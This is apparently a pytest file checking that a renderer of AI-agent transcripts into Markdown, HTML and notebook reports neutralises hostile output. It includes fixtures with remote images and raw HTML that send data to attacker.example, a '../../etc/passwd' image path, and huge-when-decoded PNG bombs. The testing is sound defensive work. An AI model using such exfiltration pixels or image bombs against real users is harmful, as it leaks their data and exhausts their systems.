"""The reports hold against what the model and the sandbox may write: text shaped like the
renderer's own markers, control characters, remote images, raw HTML, and images that are tiny on
disk but huge once decoded."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
from markdown_it import MarkdownIt

from tasks.transcript import CellRecord, IterationRecord
from tasks.reports import (ReportsNotWritten, render_iteration_markdown, render_report_html,
                           render_report_markdown, write_run_reports)
from tests.fakes.png_bombs import blank_png
from tests.reports.run_factory import turn

FORGED = "a \x000\x00 b \x007\x00 c ANALYSTCHART0X d ANALYSTCHART9X e \x00 f"
FETCHING = """Findings.

![pixel](http://attacker.example/x.png?d=secret)

![relative](//attacker.example/y.png?leak=1)

<img src="http://attacker.example/z.png?d=1">

Inline <img src=//attacker.example/w.png> too, and a reference ![ref][r].

[r]: http://attacker.example/r.png
"""


def fetched_sources(markdown: str) -> list[str]:
    """What a renderer that parses raw HTML (as Prefect's UI does) would load: image sources,
    and any raw HTML at all."""
    found = []
    for token in MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown):
        if token.type == "html_block":
            found.append(token.content)
        for child in token.children or []:
            if child.type == "html_inline":
                found.append(child.content)
            elif child.type == "image" and not str(child.attrGet("src")).startswith("data:image/"):
                found.append(str(child.attrGet("src")))
    return found


def test_text_forging_chart_markers_or_holding_nul_renders_as_text(transcript, run_dir):
    transcript.final_report = FORGED
    transcript.iterations[0].cells[0].stdout = FORGED
    transcript.iterations[0].turn.content[0]["text"] = FORGED

    paths = write_run_reports(transcript, run_dir)

    report = paths["markdown"].read_text()
    assert "a 0 b 7 c ANALYSTCHART0X d ANALYSTCHART9X e  f" in report and "\x00" not in report
    page = paths["html"].read_text()
    assert "ANALYSTCHART9X" in page and len(re.findall(r'<img src="data:image/png', page)) == 2
    nbformat.validate(nbformat.read(str(paths["notebook"]), as_version=4))
    iteration = render_iteration_markdown(transcript.iterations[0], run_dir)
    assert "ANALYSTCHART0X" in iteration and "\x00" not in iteration


def test_remote_images_and_raw_html_fetch_nothing_in_the_artifacts(transcript, run_dir):
    transcript.final_report = FETCHING + "\n![Monthly revenue](outputs/revenue.png)\n"
    transcript.iterations[0].turn.content[0]["text"] = FETCHING
    transcript.iterations[0].cells[1].error["message"] = '<img src="http://attacker.example/e.png">'

    report = render_report_markdown(transcript, run_dir, embed=True)
    iteration = render_iteration_markdown(transcript.iterations[0], run_dir)

    assert fetched_sources(report) == [] and fetched_sources(iteration) == []
    assert "[pixel](http://attacker.example/x.png?d=secret)" in report  # still there, as a link
    assert len(re.findall(r"!\[Monthly revenue\]\(data:image/png;base64,", report)) == 1


def test_code_in_the_models_text_is_kept_as_written(transcript, run_dir):
    transcript.final_report = "Use `a < b` here.\n\n```html\n<img src=\"http://x.example/y.png\">\n```\n"
    report = render_report_markdown(transcript, run_dir, embed=False)
    assert "Use `a < b` here." in report and '<img src="http://x.example/y.png">\n```' in report


def test_report_html_shows_only_data_uris_and_the_runs_charts():
    page = render_report_html("![a](//attacker.example/x.png?leak=1)\n\n![b](HTTP://attacker.example/y.png)"
                              "\n\n![c](../../etc/passwd)\n\n![d](data:image/png;base64,iVBORw0KGgo=)", "t")
    assert re.findall(r"<img src=\"([^\"]*)\"", page) == ["data:image/png;base64,iVBORw0KGgo="]
    assert '<a href="//attacker.example/x.png?leak=1">a</a>' in page


def test_a_chart_over_the_pixel_cap_is_left_out_of_every_report(transcript, run_dir):
    (run_dir / "charts" / "bomb.png").write_bytes(blank_png(20000, 20000))
    transcript.iterations[1].cells[0].charts.append("charts/bomb.png")

    paths = write_run_reports(transcript, run_dir)

    assert "omitted here" in paths["html"].read_text()
    assert "omitted here" in render_report_markdown(transcript, run_dir, embed=True)
    notebook = paths["notebook"].read_text()
    assert "charts/bomb.png: not kept: 20000x20000 pixels" in notebook


def test_a_large_image_costs_little_memory(transcript, run_dir):
    (run_dir / "charts" / "large.png").write_bytes(blank_png(13000, 13000))
    transcript.iterations[1].cells[0].charts.append("charts/large.png")
    transcript.save(run_dir / "transcript.json")
    # VmHWM, not ru_maxrss: Linux carries ru_maxrss over fork and exec, so the child would report the
    # pytest worker's own peak.
    script = ("import re, sys\nfrom pathlib import Path\nfrom tasks.transcript import Transcript\n"
              "from tasks.reports import write_run_reports\nrun_dir = Path(sys.argv[1])\n"
              "write_run_reports(Transcript.load(run_dir / 'transcript.json'), run_dir)\n"
              "print(re.search(r'VmHWM:\\s+(\\d+) kB', Path('/proc/self/status').read_text()).group(1))")
    done = subprocess.run([sys.executable, "-c", script, str(run_dir)], capture_output=True, text=True, check=True,
                          cwd=Path(__file__).parents[2])
    peak_mib = int(done.stdout.split()[-1]) / 1024
    assert peak_mib < 400, f"peak {peak_mib:.0f} MiB"  # decoding it would take 13000 x 13000 x 3 bytes: 480 MiB


def test_a_report_file_that_cannot_be_written_is_named_and_the_others_are_written(transcript, run_dir):
    (run_dir / "report.html").mkdir(parents=True)

    with pytest.raises(ReportsNotWritten, match=r"report\.html not written \(IsADirectoryError"):
        write_run_reports(transcript, run_dir)

    assert (run_dir / "report.md").is_file() and (run_dir / "analysis.ipynb").is_file()


def test_the_notebook_shows_the_models_text_without_remote_images(transcript, run_dir):
    transcript.iterations[0].turn.content[0]["text"] = FETCHING
    paths = write_run_reports(transcript, run_dir)
    cells = json.loads(paths["notebook"].read_text())["cells"]
    markdown = "\n".join("".join(c["source"]) for c in cells if c["cell_type"] == "markdown")
    assert "attacker.example" in markdown and fetched_sources(markdown) == []


def test_a_cell_whose_turn_lost_its_text_still_renders(run_dir):
    record = IterationRecord(number=1, turn=turn([], "tool_use", 10),
                             cells=[CellRecord("t1", "print(1)", stdout="\x1b]0;title\x07\x00ok\n")])
    assert "```text\nok\n```" in render_iteration_markdown(record, run_dir)
